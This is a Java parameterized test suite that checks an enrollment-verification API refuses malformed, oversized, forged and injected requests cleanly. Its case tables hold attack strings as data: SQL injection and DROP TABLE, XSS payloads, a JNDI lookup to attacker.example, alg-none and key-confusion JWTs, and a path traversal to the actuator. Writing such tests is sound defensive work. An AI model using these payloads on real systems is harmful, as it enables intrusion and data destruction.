package gx.enrollment.gateway.edge;

import static gx.enrollment.gateway.support.Submissions.formA;
import static gx.enrollment.gateway.support.Submissions.formB;
import static gx.enrollment.gateway.support.Submissions.map;
import static gx.enrollment.gateway.support.Submissions.with;
import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jwt.JWTClaimsSet;
import gx.enrollment.gateway.support.StubbedGateway;
import gx.enrollment.gateway.support.TestClients;
import gx.enrollment.mocks.Upstream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.core.io.buffer.DataBuffer;
import org.springframework.core.io.buffer.DefaultDataBufferFactory;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;
import reactor.core.publisher.Flux;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hostile input against the whole running stack: every case is answered with a {@code 4xx} {@code
 * application/problem+json} that reveals nothing internal, no row is written to any table, and no
 * government source is asked. Cases are generated from tables: malformed and truncated JSON, wrong
 * types, duplicate keys, deep nesting, huge strings and arrays, control characters and invalid
 * UTF-8, injection strings in every text field, impossible IDs, oversized bodies, wrong content
 * types, missing and forged credentials and tokens, and clients outside their regions or roles.
 */
class HostileInputTests extends StubbedGateway {

  private static final JsonMapper JSON = JsonMapper.builder().build();
  private static final String VERIFY = "/api/v1/verifications";
  private static final String DRAFTS = "/api/v1/applications/drafts";
  private static final String API_KEY = TestClients.HEADER;
  private static final String AUTHORIZATION = "Authorization";

  /** Tables a refused request must leave empty. */
  private static final List<String> TABLES =
      List.of(
          "applications",
          "application_status_history",
          "consents",
          "verification_reports",
          "source_results",
          "source_query_audit",
          "idempotency_keys",
          "outbox",
          "drafts");

  /**
   * One hostile request.
   *
   * @param headers headers to set; a {@code null} value removes the header (the default API key)
   * @param status the status expected, or 0 for "some 4xx"
   */
  record Case(
      String name,
      HttpMethod method,
      String path,
      Map<String, @Nullable String> headers,
      @Nullable MediaType contentType,
      @Nullable Supplier<Object> body,
      int status) {

    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Arguments> cases() {
    List<Case> cases = new ArrayList<>();
    malformedJson(cases);
    truncatedJson(cases);
    wrongTypes(cases);
    duplicateKeys(cases);
    deepNesting(cases);
    hugeValues(cases);
    controlCharactersAndBadUtf8(cases);
    injections(cases);
    impossibleIds(cases);
    oversizedBodies(cases);
    wrongContentTypes(cases);
    credentials(cases);
    regionsAndRoles(cases);
    return cases.stream().map(c -> Arguments.of(c));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("cases")
  void is_refused_with_a_problem_and_leaves_nothing_behind(Case hostile) {
    boolean withoutKey =
        hostile.headers().containsKey(API_KEY) && hostile.headers().get(API_KEY) == null;
    WebTestClient.RequestBodySpec request =
        (withoutKey ? anonymous : client)
            .method(hostile.method())
            .uri(hostile.path())
            .headers(
                headers ->
                    hostile
                        .headers()
                        .forEach(
                            (name, value) -> {
                              if (value != null) {
                                headers.set(name, value);
                              }
                            }));
    if (hostile.contentType() != null) {
      request.contentType(hostile.contentType());
    }
    WebTestClient.RequestHeadersSpec<?> ready = request;
    if (hostile.body() != null) {
      Object body = hostile.body().get();
      ready =
          body instanceof Flux<?>
              ? request.body(chunks(body), DataBuffer.class)
              : request.bodyValue(body);
    }
    EntityExchangeResult<byte[]> result = ready.exchange().expectBody(byte[].class).returnResult();

    int status = result.getStatus().value();
    String text =
        result.getResponseBody() == null
            ? ""
            : new String(result.getResponseBody(), StandardCharsets.UTF_8);
    if (hostile.status() == 0) {
      assertThat(status).as("status of %s: %s", hostile.name(), text).isBetween(400, 499);
    } else {
      assertThat(status).as("status of %s: %s", hostile.name(), text).isEqualTo(hostile.status());
    }
    assertThat(result.getResponseHeaders().getContentType())
        .as("content type of %s", hostile.name())
        .isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
    JsonNode problem = JSON.readTree(text);
    assertThat(problem.path("status").asInt()).isEqualTo(status);
    assertThat(problem.path("type").asText()).startsWith("https://enrollment.gx.example/problems/");
    assertThat(text)
        .as("nothing internal in %s", hostile.name())
        .doesNotContain("Exception")
        .doesNotContain("gx.enrollment")
        .doesNotContain("java.")
        .doesNotContain("tools.jackson")
        .doesNotContain("<script")
        .doesNotContain("onerror")
        .doesNotContain("DROP TABLE");
    assertThat(result.getResponseHeaders().getFirst("X-Request-Id")).isNotBlank();

    for (String table : TABLES) {
      assertThat(value("select count(*) from " + table))
          .as("rows in %s after %s", table, hostile.name())
          .isEqualTo("0");
    }
    for (Upstream upstream : Upstream.values()) {
      assertThat(stubs.requestCount(upstream))
          .as("requests to %s after %s", upstream, hostile.name())
          .isZero();
    }
  }

  // --- the case tables -------------------------------------------------------------------------

  private static Case post(String name, Supplier<Object> body, int status) {
    return new Case(
        name, HttpMethod.POST, VERIFY, Map.of(), MediaType.APPLICATION_JSON, body, status);
  }

  private static Case postText(String name, String json, int status) {
    return post(name, () -> json.getBytes(StandardCharsets.UTF_8), status);
  }

  private static Case postMap(String name, Map<String, Object> body, int status) {
    return post(name, () -> JSON.writeValueAsBytes(body), status);
  }

  private static String formAText() {
    return JSON.writeValueAsString(formA());
  }

  private static void malformedJson(List<Case> cases) {
    String[] bodies = {
      "",
      " ",
      "{",
      "}",
      "[",
      "{\"schoolYear\": }",
      "{\"schoolYear\" 2024}",
      "{schoolYear: 2024}",
      "{'schoolYear': 2024}",
      "{\"schoolYear\": 2024,}",
      "{\"schoolYear\": 2024}}",
      "{\"schoolYear\": 2024} trailing",
      "[]",
      "null",
      "42",
      "\"a string\"",
      "{\"student\": {\"idNumber\": \"450702201809120011\", }}",
      "{\"schoolYear\": 0x7E8}",
      "{\"schoolYear\": NaN}",
      "{\"stage\": \"PRIMARY\" /* comment */}",
    };
    for (int i = 0; i < bodies.length; i++) {
      cases.add(postText("malformed JSON #" + i + ": " + abbreviate(bodies[i]), bodies[i], 400));
    }
  }

  private static void truncatedJson(List<Case> cases) {
    String whole = formAText();
    for (int i = 1; i <= 10; i++) {
      int cut = whole.length() * i / 11;
      cases.add(postText("truncated JSON at " + cut, whole.substring(0, cut), 400));
    }
  }

  private static void wrongTypes(List<Case> cases) {
    Object[][] table = {
      {"schoolYear", "twenty"},
      {"schoolYear", true},
      {"schoolYear", List.of(2024)},
      {"schoolYear", map("year", 2024)},
      {"stage", 7},
      {"stage", map("name", "PRIMARY")},
      {"formType", List.of("A")},
      {"channel", false},
      {"student", "黄小明"},
      {"student", List.of("450702201809120011")},
      {"student.idNumber", map("value", "450702201809120011")},
      {"student.name", List.of("黄小明")},
      {"guardian", 5},
      {"guardian.phone", map("number", "13800771234")},
      {"guardian.relation", List.of("MOTHER")},
      {"consent", "yes"},
      {"consent.realNameVerified", "yes"},
      {"consent.grantedAt", 20240701},
      {"residence", "owned"},
      {"residencePermit", List.of("450702")},
    };
    for (Object[] row : table) {
      cases.add(
          postMap(
              "wrong type: " + row[0] + " = " + row[1], with(formA(), (String) row[0], row[1]), 0));
    }
  }

  private static void duplicateKeys(List<Case> cases) {
    String whole = formAText();
    cases.add(
        postText("duplicate key at the top", "{\"schoolYear\": 2025, " + whole.substring(1), 400));
    cases.add(
        postText(
            "duplicate key in student",
            whole.replaceFirst(
                "\"student\":\\{", "\"student\":{\"idNumber\":\"450702201809120011\","),
            400));
    cases.add(
        postText(
            "duplicate key in guardian",
            whole.replaceFirst("\"guardian\":\\{", "\"guardian\":{\"phone\":\"13900000000\","),
            400));
  }

  private static void deepNesting(List<Case> cases) {
    cases.add(postText("10 000 nested arrays", "[".repeat(10_000) + "]".repeat(10_000), 0));
    cases.add(
        postText("3 000 nested objects", "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000), 0));
    String deepStudent = "{\"x\":".repeat(2_000) + "1" + "}".repeat(2_000);
    cases.add(
        postText(
            "a deeply nested student",
            formAText().replaceFirst("\"student\":\\{[^}]*\\}", "\"student\":" + deepStudent),
            0));
  }

  private static void hugeValues(List<Case> cases) {
    cases.add(
        postMap("a 10 000-character name", with(formA(), "student.name", "黄".repeat(10_000)), 400));
    cases.add(
        postMap(
            "a 20 000-character ID", with(formA(), "student.idNumber", "4".repeat(20_000)), 400));
    cases.add(
        postMap(
            "a 60 000-character employer",
            with(formA(), "employment.employer", "x".repeat(60_000)),
            400));
    cases.add(
        postMap(
            "a 5 000-character consent id",
            with(formA(), "consent.consentId", "c".repeat(5_000)),
            400));
    cases.add(
        postMap(
            "a 200 000-character address",
            with(formA(), "residence.address", "x".repeat(200_000)),
            413));
    cases.add(
        postMap(
            "an array of 10 000 numbers as the student",
            with(formA(), "student", range(10_000)),
            0));
    cases.add(
        postMap(
            "an array of 100 000 numbers as the guardian",
            with(formA(), "guardian", range(100_000)),
            413));
    cases.add(
        postMap(
            "an array of 5 000 names",
            with(formA(), "student.name", java.util.Collections.nCopies(5_000, "黄小明")),
            0));
  }

  private static void controlCharactersAndBadUtf8(List<Case> cases) {
    cases.add(postMap("NUL in a name", with(formA(), "student.name", "黄\u0000明"), 400));
    cases.add(postMap("ESC in a name", with(formA(), "guardian.name", "黄\u001b[31m丽"), 400));
    cases.add(
        postMap("BEL in the employer", with(formA(), "employment.employer", "某\u0007公司"), 400));
    cases.add(
        postMap(
            "a newline in the address", with(formA(), "residence.address", "某路1号\n伪造日志行"), 400));
    cases.add(
        postMap(
            "a line separator in the address",
            with(formA(), "residence.address", "某路1号\u2028伪造"),
            400));
    cases.add(postMap("a lone surrogate in a name", with(formA(), "student.name", "黄\ud800明"), 0));
    cases.add(
        postMap(
            "a right-to-left override in the certificate",
            with(formA(), "residence.certificateNumber", "桂(2022)\u202e0012345号"),
            400));
    cases.add(
        postMap("NUL in the consent id", with(formA(), "consent.consentId", "c-7f\u00003a"), 400));
    cases.add(postMap("a tab in the phone", with(formA(), "guardian.phone", "138\t00771234"), 400));
    String whole = formAText();
    cases.add(
        postText(
            "a raw control character inside a string", whole.replace("黄小明", "黄\u0001小明"), 400));
    cases.add(
        post(
            "invalid UTF-8 in a name",
            () -> replaceBytes(whole, "黄小明", new byte[] {(byte) 0xC3, (byte) 0x28}),
            400));
    cases.add(
        post(
            "an overlong UTF-8 slash",
            () -> replaceBytes(whole, "黄小明", new byte[] {(byte) 0xC0, (byte) 0xAF}),
            400));
    cases.add(
        post(
            "a 0xFF byte before the JSON",
            () -> concat(new byte[] {(byte) 0xFF}, whole.getBytes(StandardCharsets.UTF_8)),
            400));
    cases.add(
        post(
            "a truncated UTF-8 sequence at the end",
            () ->
                concat(
                    "{\"a\":\"".getBytes(StandardCharsets.UTF_8),
                    new byte[] {(byte) 0xE9, (byte) 0xBB}),
            400));
  }

  private static final String[] INJECTIONS = {
    "' OR '1'='1",
    "'; DROP TABLE applications; --",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://attacker.example/a}",
  };

  private static final String[] TEXT_FIELDS = {
    "student.name",
    "student.idNumber",
    "guardian.name",
    "guardian.idNumber",
    "guardian.phone",
    "regionCode",
    "residencePermit.regionCode",
    "employment.employer",
    "residence.address",
    "residence.certificateNumber",
    "consent.consentId",
    "stage",
  };

  private static void injections(List<Case> cases) {
    for (String field : TEXT_FIELDS) {
      for (String injection : INJECTIONS) {
        cases.add(
            postMap(
                "injection in " + field + ": " + injection, with(formA(), field, injection), 400));
      }
    }
  }

  private static void impossibleIds(List<Case> cases) {
    String[][] table = {
      {"student.idNumber", "450702201809120012", "wrong check character"},
      {"student.idNumber", "45070220180912001X", "X where a digit belongs"},
      {"student.idNumber", "450702201802300011", "30 February"},
      {"student.idNumber", "450702201813120011", "month 13"},
      {"student.idNumber", "450702209909120011", "born in 2099"},
      {"student.idNumber", "45070220180912001", "17 characters"},
      {"student.idNumber", "4507022018091200111", "19 characters"},
      {"guardian.idNumber", "450702198803150021", "wrong check character"},
      {"guardian.idNumber", "450702198800150020", "day 0"},
      {"guardian.idNumber", "45070219880315002y", "a y for a check character"},
      {"guardian.idNumber", "４５０７０２１９８８０３１５００２０", "full-width digits"},
    };
    for (String[] row : table) {
      cases.add(postMap("ID " + row[0] + ": " + row[2], with(formA(), row[0], row[1]), 400));
    }
  }

  private static void oversizedBodies(List<Case> cases) {
    String padded = formAText().replaceFirst("\\{", "{" + " ".repeat(70_000));
    cases.add(postText("a body over the limit by its Content-Length", padded, 413));
    cases.add(
        post(
            "a chunked body over the limit",
            () -> {
              byte[] chunk = (" ".repeat(8_192)).getBytes(StandardCharsets.UTF_8);
              return Flux.concat(
                  Flux.just(buffer("{\"pad\": \"".getBytes(StandardCharsets.UTF_8))),
                  Flux.range(0, 12).map(i -> buffer(chunk)),
                  Flux.just(buffer("\"}".getBytes(StandardCharsets.UTF_8))));
            },
            413));
  }

  private static void wrongContentTypes(List<Case> cases) {
    MediaType[] types = {
      MediaType.TEXT_PLAIN,
      MediaType.APPLICATION_XML,
      MediaType.APPLICATION_FORM_URLENCODED,
      MediaType.APPLICATION_OCTET_STREAM,
      MediaType.parseMediaType("application/x-yaml"),
    };
    for (MediaType type : types) {
      cases.add(
          new Case(
              "content type " + type,
              HttpMethod.POST,
              VERIFY,
              Map.of(),
              type,
              () -> formAText().getBytes(StandardCharsets.UTF_8),
              415));
    }
  }

  private static Case withCredential(
      String name, String header, @Nullable String value, int status) {
    Map<String, @Nullable String> headers = new LinkedHashMap<>();
    headers.put(API_KEY, null);
    if (value != null) {
      headers.put(header, value);
    }
    return new Case(
        name,
        HttpMethod.POST,
        VERIFY,
        headers,
        MediaType.APPLICATION_JSON,
        () -> formAText().getBytes(StandardCharsets.UTF_8),
        status);
  }

  private static void credentials(List<Case> cases) {
    cases.add(withCredential("no credentials", API_KEY, null, 401));
    cases.add(withCredential("an empty API key", API_KEY, "", 401));
    cases.add(withCredential("an unknown API key", API_KEY, "test-all-0d6c2a9e8f4b17c53e90", 401));
    cases.add(
        withCredential(
            "a key hash sent as the key",
            API_KEY,
            "dd2f1793c1396705f2458af0f030f92a759ddea3867fa53c9ce8c8c105934b43",
            401));
    cases.add(withCredential("an injection as the API key", API_KEY, "' OR '1'='1", 401));
    cases.add(withCredential("a 4 000-character API key", API_KEY, "k".repeat(4_000), 401));
    cases.add(withCredential("Basic authentication", AUTHORIZATION, "Basic dGVzdDp0ZXN0", 401));
    cases.add(withCredential("Bearer without a token", AUTHORIZATION, "Bearer ", 401));
    cases.add(
        withCredential("a bearer token that is no JWT", AUTHORIZATION, "Bearer not-a-jwt", 401));
    cases.add(withCredential("a bearer token of three dots", AUTHORIZATION, "Bearer ...", 401));
    cases.add(
        withCredential(
            "the API key as a bearer token", AUTHORIZATION, "Bearer " + TestClients.ALL, 401));
    cases.add(
        token(
            "an expired token",
            () -> Tokens.hs256(expired(Tokens.reviewer()), TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token for another audience",
            () ->
                Tokens.hs256(
                    Tokens.reviewer().audience("another-service").build(),
                    TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token of another issuer",
            () ->
                Tokens.hs256(
                    Tokens.reviewer().issuer("https://evil.example").build(),
                    TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token signed with another secret",
            () ->
                Tokens.hs256(
                    Tokens.reviewer().build(), "another-secret-of-at-least-thirty-two-bytes!"),
            401));
    cases.add(
        token(
            "a token with a changed signature",
            () -> tamper(Tokens.hs256(Tokens.reviewer().build(), TestClients.REVIEWER_SECRET)),
            401));
    cases.add(
        token("a token with alg none", () -> Tokens.unsigned(Tokens.reviewer().build()), 401));
    cases.add(
        token(
            "a token naming an unknown client",
            () ->
                Tokens.hs256(
                    Tokens.claims("nobody", TestClients.REVIEWER_ISSUER).build(),
                    TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token naming an API-key client",
            () ->
                Tokens.hs256(
                    Tokens.claims("test-all", TestClients.REVIEWER_ISSUER).build(),
                    TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token without an expiry",
            () ->
                Tokens.hs256(
                    Tokens.reviewer().expirationTime(null).build(), TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "a token not valid before next hour",
            () ->
                Tokens.hs256(
                    Tokens.reviewer()
                        .notBeforeTime(Date.from(Instant.now().plus(Duration.ofHours(1))))
                        .build(),
                    TestClients.REVIEWER_SECRET),
            401));
    cases.add(
        token(
            "an RS256 client's token signed HS256 with its public key",
            () -> Tokens.hs256(Tokens.rsPortal().build(), publicKeyText()),
            401));
    cases.add(
        token(
            "an RS256 token with a changed signature",
            () -> tamper(Tokens.rs256(Tokens.rsPortal().build())),
            401));
    cases.add(token("an expired RS256 token", () -> Tokens.rs256(expired(Tokens.rsPortal())), 401));
    cases.add(
        token(
            "a valid reviewer token calling the verification endpoint",
            () -> Tokens.hs256(Tokens.reviewer().build(), TestClients.REVIEWER_SECRET),
            403));
  }

  private static Case token(String name, Supplier<String> token, int status) {
    Map<String, @Nullable String> headers = new LinkedHashMap<>();
    headers.put(API_KEY, null);
    headers.put(AUTHORIZATION, "Bearer " + token.get());
    return new Case(
        name,
        HttpMethod.POST,
        VERIFY,
        headers,
        MediaType.APPLICATION_JSON,
        () -> formAText().getBytes(StandardCharsets.UTF_8),
        status);
  }

  private static void regionsAndRoles(List<Case> cases) {
    Map<String, Object> xincheng = formB();
    cases.add(
        as("a Qinzhou portal filing for 忻城县", TestClients.PORTAL_QINZHOU, VERIFY, xincheng, 403));
    cases.add(
        as(
            "a Laibin registration point filing ONLINE",
            TestClients.OFFLINE_LAIBIN,
            VERIFY,
            formB(),
            403));
    cases.add(
        as(
            "a Laibin registration point filing for 钦南区",
            TestClients.OFFLINE_LAIBIN,
            VERIFY,
            with(formA(), "channel", "OFFLINE"),
            403));
    cases.add(
        as(
            "a portal filing OFFLINE",
            TestClients.PORTAL_QINZHOU,
            VERIFY,
            with(formA(), "channel", "OFFLINE"),
            403));
    cases.add(
        as("the reviewer tool filing a submission", TestClients.REVIEWER, VERIFY, formA(), 403));
    cases.add(as("an operator filing a submission", TestClients.OPERATOR, VERIFY, formA(), 403));
    cases.add(
        as("a Qinzhou portal drafting for 忻城县", TestClients.PORTAL_QINZHOU, DRAFTS, formB(), 403));
    cases.add(
        as(
            "a registration point drafting",
            TestClients.OFFLINE_LAIBIN,
            DRAFTS,
            with(formB(), "channel", "OFFLINE"),
            403));
    cases.add(
        as(
            "a portal sending a review decision",
            TestClients.PORTAL_QINZHOU,
            "/api/v1/review/decisions",
            map(
                "decisionId",
                "d-1",
                "applicationId",
                "01932c07-0000-7000-8000-000000000001",
                "decision",
                "ACCEPT",
                "reviewer",
                "x"),
            403));
    cases.add(
        as(
            "a portal calling an operator endpoint",
            TestClients.PORTAL_QINZHOU,
            "/api/v1/ops/audit/verification",
            map(),
            403));
    cases.add(
        get("a portal reading the actuator", TestClients.PORTAL_QINZHOU, "/actuator/info", 403));
    cases.add(get("no credentials for the actuator", null, "/actuator/info", 401));
    cases.add(get("no credentials for the regions", null, "/api/v1/regions", 401));
    cases.add(get("an operator reading the regions", TestClients.OPERATOR, "/api/v1/regions", 403));
    cases.add(get("a path no operation names", TestClients.ALL, "/api/v1/secrets", 404));
    cases.add(get("a wrong method on the verification endpoint", TestClients.ALL, VERIFY, 405));
    cases.add(get("a path escaping the API", TestClients.ALL, "/api/v1/../../actuator/env", 0));
  }

  private static Case as(
      String name, String key, String path, Map<String, Object> body, int status) {
    return new Case(
        name,
        HttpMethod.POST,
        path,
        Map.of(API_KEY, key),
        MediaType.APPLICATION_JSON,
        () -> JSON.writeValueAsBytes(body),
        status);
  }

  private static Case get(String name, @Nullable String key, String path, int status) {
    Map<String, @Nullable String> headers = new LinkedHashMap<>();
    headers.put(API_KEY, key);
    return new Case(name, HttpMethod.GET, path, headers, null, null, status);
  }

  // --- helpers ---------------------------------------------------------------------------------

  private static JWTClaimsSet expired(JWTClaimsSet.Builder claims) {
    Instant longAgo = Instant.now().minus(Duration.ofHours(2));
    return claims
        .issueTime(Date.from(longAgo))
        .expirationTime(Date.from(longAgo.plus(Duration.ofMinutes(5))))
        .build();
  }

  /** Changes one character in the middle of the signature (never only its padding bits). */
  private static String tamper(String token) {
    int at = token.lastIndexOf('.') + 5;
    char c = token.charAt(at);
    return token.substring(0, at) + (c == 'A' ? 'B' : 'A') + token.substring(at + 1);
  }

  private static String publicKeyText() {
    return "-----BEGIN PUBLIC KEY-----\n"
        + "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxMYaq2z+aKSNl1doLYO1\n"
        + "-----END PUBLIC KEY-----\n";
  }

  private static List<Integer> range(int n) {
    List<Integer> list = new ArrayList<>(n);
    for (int i = 0; i < n; i++) {
      list.add(i);
    }
    return list;
  }

  private static byte[] replaceBytes(String text, String target, byte[] replacement) {
    int at = text.indexOf(target);
    byte[] before = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
    byte[] after = text.substring(at + target.length()).getBytes(StandardCharsets.UTF_8);
    return concat(concat(before, replacement), after);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(a);
    out.writeBytes(b);
    return out.toByteArray();
  }

  @SuppressWarnings("unchecked")
  private static Flux<DataBuffer> chunks(Object body) {
    return (Flux<DataBuffer>) body;
  }

  private static DataBuffer buffer(byte[] bytes) {
    return DefaultDataBufferFactory.sharedInstance.wrap(bytes);
  }

  private static String abbreviate(String text) {
    return text.length() > 30 ? text.substring(0, 30) + "…" : text;
  }
}
